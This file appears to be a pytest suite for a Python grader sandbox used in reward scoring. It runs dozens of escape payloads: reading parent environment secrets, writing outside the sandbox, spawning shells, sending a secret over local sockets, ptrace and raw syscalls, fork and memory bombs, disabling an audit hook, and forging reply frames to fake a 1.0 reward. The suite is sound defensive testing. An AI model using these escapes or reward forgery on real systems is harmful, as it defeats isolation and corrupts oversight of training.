"""Hostile `python` graders: every escape attempt ends as a flagged 0 and leaks nothing.

The parent (this test process) holds ``SECRET=hunter2`` in its environment, a TCP listener on
127.0.0.1, a UDP socket, a Unix socket on the file system and an abstract Unix socket, a folder
outside the sandbox and a SIGUSR1 counter. Each attack returns 1.0 only when it got through;
being stopped must raise inside the grader (a flagged 0). After each attack: the secret is in no
message, no socket received a byte, nothing was written outside, the parent got no signal and
no temporary directory is left behind.
"""

from __future__ import annotations

import os
import signal
import socket
import sysconfig
import tempfile
import time
from pathlib import Path

import pytest

import rft
from rft.sandbox import host_support

pytestmark = pytest.mark.skipif(
    host_support() is not None, reason=f"no strong sandbox on this host: {host_support()}"
)

PRELUDE = """
import ctypes, gc, os, resource, signal, socket, subprocess, sys, time, _posixsubprocess

libc = ctypes.CDLL(None, use_errno=True)

def audit_hook_off():
    # The escape from issue 13: flip the worker's own "allow" switch of its audit hook.
    for obj in gc.get_objects():
        if type(obj) is list and obj == [False]:
            obj[0] = True
    frame = sys._getframe(1)
    while frame is not None:
        if isinstance(frame.f_locals.get("allow"), list):
            frame.f_locals["allow"][0] = True
        frame = frame.f_back

def exfiltrate(item, data):
    s = socket.create_connection(("127.0.0.1", item["port"]), timeout=1)
    s.sendall(data)

def grade(sample, item):
    kind = sample["output_text"]
"""

ATTACKS: dict[str, str] = {
    "read_parent_environ": "open(f'/proc/{os.getppid()}/environ', 'rb').read(); return 1.0",
    "read_real_parent_environ": "open(f'/proc/{item[\"parent\"]}/environ', 'rb').read(); return 1.0",
    "scan_proc_environ": (
        "for pid in os.listdir('/proc'):\n"
        "        try:\n"
        "            if b'hunter2' in open(f'/proc/{pid}/environ', 'rb').read(): return 1.0\n"
        "        except OSError: pass\n"
        "    raise RuntimeError('no secret found')"
    ),
    "own_environ": (
        "if 'hunter2' in repr(os.environ): return 1.0\n"
        "    raise RuntimeError(f'no secret in {sorted(os.environ)}')"
    ),
    "read_etc_passwd": "open('/etc/passwd').read(); return 1.0",
    "read_other_folder": "open(item['outside'] + '/note.txt').read(); return 1.0",
    "list_other_folder": "os.listdir(item['outside']); return 1.0",
    "read_sys": "os.listdir('/sys/class'); return 1.0",
    "write_outside": "open(item['outside'] + '/pwned', 'w').write('x'); return 1.0",
    "write_site_packages": "open(item['purelib'] + '/rft_pwned.pth', 'w').write('x'); return 1.0",
    "write_root": "open('/pwned', 'w').write('x'); return 1.0",
    "write_dev_shm": "open('/dev/shm/pwned', 'w').write('x'); return 1.0",
    "fork_exec_sh": (
        "r, w = os.pipe()\n"
        "    cmd = b'echo $SECRET > ' + item['outside'].encode() + b'/sh'\n"
        "    _posixsubprocess.fork_exec([b'/bin/sh', b'-c', cmd], [b'/bin/sh'], True, (), None,"
        " None, -1, -1, -1, -1, -1, -1, r, w, True, False, -1, None, None, None, -1, None, False)\n"
        "    return 1.0"
    ),
    "os_system": (
        "audit_hook_off()\n"
        "    rc = os.system('touch ' + item['outside'] + '/system')\n"
        "    if rc == 0: return 1.0\n"
        "    raise OSError(f'os.system returned {rc}')"
    ),
    "subprocess_run": "subprocess.run(['/bin/sh', '-c', 'true'], check=True); return 1.0",
    "posix_spawn": "os.posix_spawn('/bin/sh', ['sh', '-c', 'true'], {}); return 1.0",
    "fork": "pid = os.fork()\n    if pid == 0: os._exit(0)\n    return 1.0",
    "execv": "audit_hook_off(); os.execv('/bin/sh', ['sh', '-c', 'touch ' + item['outside'] + '/exec'])",
    "execv_python": "audit_hook_off(); os.execv(sys.executable, [sys.executable, '-c', 'pass'])",
    "tcp_loopback": "exfiltrate(item, b'hunter2'); return 1.0",
    "tcp_after_audit_off": "audit_hook_off(); exfiltrate(item, b'hunter2'); return 1.0",
    "udp_loopback": (
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    s.sendto(b'hunter2', ('127.0.0.1', item['udp'])); return 1.0"
    ),
    "af_unix_host_socket": (
        "audit_hook_off(); s = socket.socket(socket.AF_UNIX)\n"
        "    s.connect(item['unix']); s.sendall(b'hunter2'); return 1.0"
    ),
    "abstract_unix_socket": (
        "audit_hook_off(); s = socket.socket(socket.AF_UNIX)\n"
        "    s.connect(item['abstract']); s.sendall(b'hunter2'); return 1.0"
    ),
    "raw_socket_syscall": (
        "fd = libc.syscall(41, 2, 1, 0)\n"  # socket(AF_INET, SOCK_STREAM) without Python's socket
        "    if fd >= 0: return 1.0\n"
        "    raise OSError(ctypes.get_errno(), 'socket syscall refused')"
    ),
    "io_uring": (
        "params = ctypes.create_string_buffer(120)\n"
        "    fd = libc.syscall(425, 8, params)\n"  # io_uring_setup: ops that bypass seccomp
        "    if fd >= 0: return 1.0\n"
        "    raise OSError(ctypes.get_errno(), 'io_uring refused')"
    ),
    "kill_parent": "audit_hook_off(); os.kill(item['parent'], signal.SIGUSR1); return 1.0",
    "kill_ppid": "audit_hook_off(); os.kill(os.getppid(), signal.SIGUSR1); return 1.0",
    "kill_all": "audit_hook_off(); os.kill(-1, 0); return 1.0",  # signal 0: a probe, harmless
    "pidfd_signal_parent": (
        "signal.pidfd_send_signal(os.pidfd_open(item['parent']), signal.SIGUSR1); return 1.0"
    ),
    "ptrace_parent": (
        "if libc.ptrace(0x4206, item['parent'], 0, 0) == 0: return 1.0\n"  # PTRACE_SEIZE
        "    raise OSError(ctypes.get_errno(), 'ptrace refused')"
    ),
    "unshare_userns": (
        "if libc.unshare(0x10000000) == 0: return 1.0\n"
        "    raise OSError(ctypes.get_errno(), 'unshare refused')"
    ),
    "raise_rlimit": (
        "resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
        "    return 1.0"
    ),
    "disk_fill_40x10MB": (
        "for k in range(40):\n"
        "        with open(f'f{k}.bin', 'wb') as f: f.write(b'0' * (10 << 20))\n"
        "    return 1.0"
    ),
    "memory_bomb": "block = bytearray(3 * 1024**3); return 1.0",
    "memory_creep": (
        "keep = []\n    for _ in range(64): keep.append(bytearray(64 << 20))\n    return 1.0"
    ),
    "fork_bomb": "while True: os.fork()",
    "thread_bomb": (
        "import threading\n"
        "    while True: threading.Thread(target=time.sleep, args=(60,), daemon=True).start()"
    ),
    "infinite_loop": "while True: pass",
    "sleep_forever": "time.sleep(3600)",
    "forged_frame_blind": (
        "import json, struct\n"
        "    body = json.dumps({'score': 1.0, 'cpu': 0}).encode()\n"
        "    for fd in range(3, 20):\n"
        "        try: os.write(fd, struct.pack('>I', len(body)) + body)\n"
        "        except OSError: pass\n"
        "    return 0.0"
    ),
    "forged_frame_huge_length": (
        "for fd in range(3, 20):\n"
        "        try: os.write(fd, b'\\x7f\\xff\\xff\\xff' + b'{' * 4096)\n"
        "        except OSError: pass\n"
        "    return 0.0"
    ),
    "forged_frame_inf_with_nonce": (
        "import json, struct\n"
        "    nonces = [o for o in gc.get_objects() if type(o) is dict and 'n' in o]\n"
        "    nonce = sys._getframe(1).f_locals.get('nonce')\n"
        '    body = (\'{"n": %s, "score": 1e999, "cpu": 0}\' % json.dumps(nonce)).encode()\n'
        "    for fd in range(3, 20):\n"
        "        try: os.write(fd, struct.pack('>I', len(body)) + body)\n"
        "        except OSError: pass\n"
        "    return 0.0"
    ),
    "read_project_folder": "open(item['repo'] + '/README.md').read(); return 1.0",
    "write_host_tmp": "open('/tmp/rft-pwned', 'w').write('x'); return 1.0",
    "hardlink_site_packages": ("os.link(item['purelib'] + '/pyseccomp.py', 'mine.py'); return 1.0"),
    "widen_cpu_affinity": "os.sched_setaffinity(0, range(os.cpu_count())); return 1.0",
    "raw_clone_syscall": (
        "pid = libc.syscall(56, 17, 0, 0, 0, 0)\n"  # clone(SIGCHLD): a new process
        "    if pid == 0: os._exit(0)\n"
        "    if pid > 0: return 1.0\n"
        "    raise OSError(ctypes.get_errno(), 'clone refused')"
    ),
    "raw_vfork_syscall": (
        "pid = libc.syscall(58)\n"
        "    if pid == 0: os._exit(0)\n"
        "    if pid > 0: return 1.0\n"
        "    raise OSError(ctypes.get_errno(), 'vfork refused')"
    ),
    "raw_execve_syscall": (
        "rc = libc.execve(b'/usr/lib/os-release', None, None)\n"
        "    raise OSError(ctypes.get_errno(), f'execve refused ({rc})')"
    ),
    "forged_frame_deep_json": (
        "import struct\n"
        "    body = b'[' * 30000 + b']' * 30000\n"
        "    for fd in range(3, 20):\n"
        "        try: os.write(fd, struct.pack('>I', len(body)) + body)\n"
        "        except OSError: pass\n"
        "    return 0.0"
    ),
    "returns_nan": "return float('nan')",
    "returns_inf": "return float('inf')",
    "returns_string": "return '1.0'",
    "returns_bool": "return True",
    "returns_huge_int": "return 10**400",
    "huge_error_message": "raise ValueError('x' * 10_000_000)",
    "terminal_escape_in_error": "raise ValueError('\\x1b[2J\\x1b]0;pwned\\x07')",
    "newline_and_bidi_in_error": "raise ValueError('fine\\nreward 1.0 \\u202egnp.exe')",
    "exit_255": "os._exit(255)",
    "huge_stdout": "print('x' * 50_000_000); os.write(2, b'y' * 1_000_000); return 0.0",
}

# Attacks expected to be stopped by a limit, with the wall-clock bound they must respect.
HANGS = {"infinite_loop", "sleep_forever", "fork_bomb"}


def source_for(name: str) -> str:
    body = ATTACKS[name].replace("\n", "\n    ")
    return PRELUDE + f"    if kind == {name!r}:\n        {body}\n    return 0.25\n"


@pytest.fixture
def host(tmp_path, monkeypatch):
    """The parent's environment, listeners and watch points; checked after the attack."""
    monkeypatch.setenv("SECRET", "hunter2")
    tmp_base = tmp_path / "tmp"
    tmp_base.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_base))
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "note.txt").write_text("hunter2")
    signals: list[int] = []
    previous = signal.signal(signal.SIGUSR1, lambda *_: signals.append(1))
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen()
    tcp.settimeout(0.05)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(0.05)
    unix_path = str(tmp_path / "host.sock")
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(unix_path)
    unix.listen()
    unix.settimeout(0.05)
    abstract_name = f"\0rft-test-{os.getpid()}-{time.monotonic_ns()}"
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind(abstract_name)
    abstract.listen()
    abstract.settimeout(0.05)
    purelib = sysconfig.get_paths()["purelib"]
    item = {
        "port": tcp.getsockname()[1],
        "udp": udp.getsockname()[1],
        "unix": unix_path,
        "abstract": abstract_name,
        "outside": str(outside),
        "purelib": purelib,
        "repo": str(Path(__file__).resolve().parents[2]),
        "parent": os.getpid(),
    }
    yield item
    try:
        for listener in (tcp, unix, abstract):
            with pytest.raises(TimeoutError):
                listener.accept()
        with pytest.raises(TimeoutError):
            udp.recvfrom(100)
        assert sorted(p.name for p in outside.iterdir()) == ["note.txt"]
        assert not Path(purelib, "rft_pwned.pth").exists()
        assert not Path("/pwned").exists() and not Path("/tmp/rft-pwned").exists()
        assert signals == []
        assert list(tmp_base.iterdir()) == []
    finally:
        signal.signal(signal.SIGUSR1, previous)
        for s in (tcp, udp, unix, abstract):
            s.close()


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_escape_attempt_is_a_flagged_zero(name, host):
    bundle = {
        "type": "python",
        "name": "hostile",
        "source": source_for(name),
        "timeout_s": 2,
        "cpu_time_s": 2,
        "workers": 1,
    }
    with rft.compile(bundle) as reward:
        start = time.perf_counter()
        s = reward.score([name, "ok"], [host, host])
        elapsed = time.perf_counter() - start
    parent_alive = os.getpid() == host["parent"]
    assert parent_alive
    flagged = s.errors["python_grader_runtime_error"] | s.errors["python_grader_server_error"]
    messages = " | ".join(m for m in (s.first_message(0), s.first_message(1)) if m)
    assert "hunter2" not in messages
    assert not set(messages) & {"\x1b", "\n", "\u202e"} and len(messages) < 2000
    if name in {
        "huge_stdout",
        "forged_frame_blind",
        "forged_frame_huge_length",
        "forged_frame_deep_json",
    }:
        # Printing is harmless (a 0 from grade()); a forged frame never scores 1.
        assert s.scores[0] == 0.0
    else:
        assert s.scores[0] == 0.0 and bool(flagged[0]), (name, messages)
    assert s.scores[1] in (0.0, 0.25)
    if name in HANGS:
        assert elapsed < 2 + 3  # the limit (2 s) plus starting a replacement worker


def test_a_worker_that_stops_reading_cannot_block_the_parent(host):
    # grade() leaves a timer thread that, once the reply is out, holds the GIL in one long C
    # call, so the worker's loop never reads the next (large) request: the parent's write
    # must time out, not block.
    source = (
        "import threading\n"
        "def grade(sample, item):\n"
        "    if sample['output_text'] == 'stall':\n"
        "        threading.Timer(0.2, lambda: 7 ** 7 ** 9).start()\n"
        "    return 0.5\n"
    )
    bundle = {"type": "python", "name": "stall", "source": source, "timeout_s": 2, "workers": 1}
    big = {"blob": "x" * (4 << 20)}
    with rft.compile(bundle) as reward:
        assert reward.score(["stall"], [{}]).scores.tolist() == [0.5]
        time.sleep(0.5)  # the timer fires: the worker's loop is stalled from now on
        start = time.perf_counter()
        s = reward.score(["next", "ok"], [big, {}])
        elapsed = time.perf_counter() - start
    assert s.scores.tolist() == [0.0, 0.5]
    assert s.errors["python_grader_runtime_error"].tolist() == [True, False]
    assert "timed out after 2 s" in s.first_message(0)
    assert elapsed < 2 + 3


FORGER = """
import json, os, struct, sys

def grade(sample, item):
    if sample["output_text"] == "forge":
        # The worker loop's locals hold this request's nonce: a frame with it is well formed.
        nonce = sys._getframe(1).f_locals["nonce"]
        body = json.dumps({"n": nonce, "score": 1.0, "cpu": 0}).encode()
        for fd in range(3, 20):
            try:
                os.write(fd, struct.pack(">I", len(body)) + body)
            except OSError:
                pass
        return 0.0
    return 0.25
"""


def test_a_forged_reply_only_chooses_its_own_score_and_is_then_caught(host):
    # What forging can buy is the score of the sample being graded, which grade() could return
    # anyway; the real reply left behind answers no request, so the next sample is flagged and
    # the worker replaced.
    bundle = {"type": "python", "name": "forger", "source": FORGER, "timeout_s": 2, "workers": 1}
    with rft.compile(bundle) as reward:
        s = reward.score(["forge", "ok", "ok"], [{}, {}, {}])
    assert s.scores.tolist() == [1.0, 0.0, 0.25]
    assert s.errors["python_grader_server_error"].tolist() == [False, True, False]
    assert s.first_message(1) == (
        "forger: the worker broke the protocol (a reply to another request); replaced"
    )
    assert s.usage["python_worker_restarts"] == 1
